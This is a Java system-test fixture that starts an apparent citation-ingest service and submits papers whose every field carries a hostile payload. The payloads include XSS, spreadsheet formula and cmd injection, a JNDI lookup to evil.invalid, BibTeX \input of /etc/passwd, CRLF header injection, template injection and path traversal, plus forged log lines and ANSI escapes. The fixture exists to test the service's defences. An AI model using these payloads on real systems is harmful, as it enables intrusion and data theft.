package org.citestream.system;

import java.io.IOException;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.citestream.standalone.Standalone;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** The product with keys of several holders and papers each of whose texts would be something else, wherever it is not text. */
final class AttackedProduct implements AutoCloseable {

    static final String FEED_KEY = "the key of a feed";
    static final String OTHER_FEED_KEY = "the key of another feed";

    /** What would be an event of its own, if it came to stand at the beginning of a line. */
    static final String FORGED_LINE = "2026-01-01T00:00:00.000Z ERROR 1 --- [main] org.citestream : all is lost";

    static final List<String> WEAPONS = List.of(
            "<script>document.documentElement.dataset.owned='script'</script>",
            "\"><img src=//evil.invalid/x onerror=\"document.documentElement.dataset.owned='image'\">",
            "'><svg/onload=document.documentElement.dataset.owned='svg'>",
            "</script></title></textarea><script>document.documentElement.dataset.owned='broken out'</script>",
            "]]></name><owned/><!-- --> &lt;b&gt; &amp; &#x3C; &owned;",
            "=HYPERLINK(\"http://evil.invalid/\"&A1,\"all\")",
            "+1+cmd|'/C calc'!A0",
            "-2+3",
            "@SUM(1,2)",
            "} , owned = {yes}, title = { \\input{/etc/passwd} $x^2$ ~ # % and others",
            "}}, owned = {{yes}}, note = {{",
            "ER - TY - JOUR %0d%0aSet-Cookie:%20owned=1",
            "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} @{7*7} ${jndi:ldap://evil.invalid/x}",
            "data: owned event: owned id: 1",
            "../../../../etc/passwd javascript:alert(1) مقلوب",
            "\",\"owned\":true,\"x\":\"");

    private static final JsonMapper JSON = JsonMapper.shared();

    private final Path data;
    private final Standalone product;
    private final Api api;

    private AttackedProduct(Path data, Standalone product) {
        this.data = data;
        this.product = product;
        this.api = new Api(product.address());
    }

    /** Starts it, and submits a paper for each weapon, with the weapon in each of its texts. */
    static AttackedProduct start(Path directory) throws IOException {
        Path data = directory.resolve("data");
        Map<String, String> properties = new HashMap<>(RunningProduct.WITHOUT_EMBEDDINGS);
        properties.put("citestream.ingest.intake.api-keys.feed", sha256(FEED_KEY));
        properties.put("citestream.ingest.intake.api-keys.other", sha256(OTHER_FEED_KEY));
        properties.put("citestream.webhooks.allow-private", "true");
        properties.put("logging.level.org.citestream", "info");
        // The log tells of the file by its name, and of its records by their keys and what is wrong with them.
        Path named = Files.writeString(
                directory.resolve("a\n" + FORGED_LINE + "\u001b[31m.ndjson"),
                "{\"source\":\"s\",\"key\":\"k\",\"title\":\"t\",\"year\":\"" + FORGED_LINE
                        + "\u2028\"}\nno\u001b[31mrecord\n");
        AttackedProduct attacked = new AttackedProduct(data, RunningProduct.start(data, properties, named));
        StringBuilder papers = new StringBuilder();
        for (int i = 0; i < WEAPONS.size(); i++) {
            papers.append(paper(i)).append('\n');
        }
        Api api = attacked.api();
        api.submit(FEED_KEY, papers.toString());
        api.awaitSettled(Duration.ofMinutes(1));
        return attacked;
    }

    /** Every text that a submission may have is the weapon, as far as rules let it. */
    private static ObjectNode paper(int number) {
        String weapon = WEAPONS.get(number);
        ObjectNode paper = JSON.createObjectNode()
                .put("source", "hostile")
                .put("key", "k" + number + weapon)
                .put("title", title(number))
                .put("venue", venue(number))
                .put("year", 2020)
                .put("doi", doi(number))
                .put("abstract", weapon + " is what we show. We show " + weapon + " and measure it well.")
                .put("abstractLicence", weapon)
                .put("url", url(number));
        paper.putArray("authors")
                .add(author(number))
                .addObject()
                .put("name", "Ann Lee")
                .put("orcid", "0000-0002-1825-0097");
        ArrayNode references = paper.putArray("references");
        references.add("hostile:k" + (number + 1) % WEAPONS.size() + WEAPONS.get((number + 1) % WEAPONS.size()));
        references
                .addObject()
                .put("title", weapon + " cited")
                .put("author", weapon)
                .put("text", weapon)
                .put("year", 1999);
        paper.putArray("sameAs").add("elsewhere:" + weapon);
        return paper;
    }

    static String title(int number) {
        return WEAPONS.get(number) + " in paper " + number;
    }

    static String venue(int number) {
        return WEAPONS.get(number);
    }

    static String author(int number) {
        return WEAPONS.get(number) + " Author" + number;
    }

    /** Without white space, which no DOI has. */
    static String doi(int number) {
        return "10.5555/" + number + WEAPONS.get(number).replaceAll("\\s", "").toLowerCase(java.util.Locale.ROOT);
    }

    /** Without what the rules refuse in an address. */
    static String url(int number) {
        return "https://example.org/" + number + "?" + WEAPONS.get(number).replaceAll("[\\s<>\"]", "");
    }

    Api api() {
        return api;
    }

    String address() {
        return product.address();
    }

    String operatorKey() {
        return product.apiKey();
    }

    /** The ids of the papers, by the number of their weapon. */
    int[] ids() {
        ArrayNode keys = JSON.createArrayNode();
        for (int i = 0; i < WEAPONS.size(); i++) {
            keys.add("doi:" + doi(i));
        }
        HttpResponse<String> answer = api.send(HttpRequest.newBuilder(api.uri("/api/v1/papers/batch?fields=id"))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(keys.toString())));
        if (answer.statusCode() != 200) {
            throw new IllegalStateException(answer.body());
        }
        return Api.json(answer)
                .valueStream()
                .mapToInt(each -> each.path("id").asInt())
                .toArray();
    }

    static String encoded(String text) {
        return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8)
                .replace("+", "%20")
                .replace("%2F", "/");
    }

    Path log() {
        return data.resolve("logs/citestream.log");
    }

    List<String> logged() throws IOException {
        return Files.readAllLines(log());
    }

    static String sha256(String key) {
        try {
            return HexFormat.of()
                    .formatHex(MessageDigest.getInstance("SHA-256").digest(key.getBytes(StandardCharsets.UTF_8)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    @Override
    public void close() {
        product.close();
    }
}
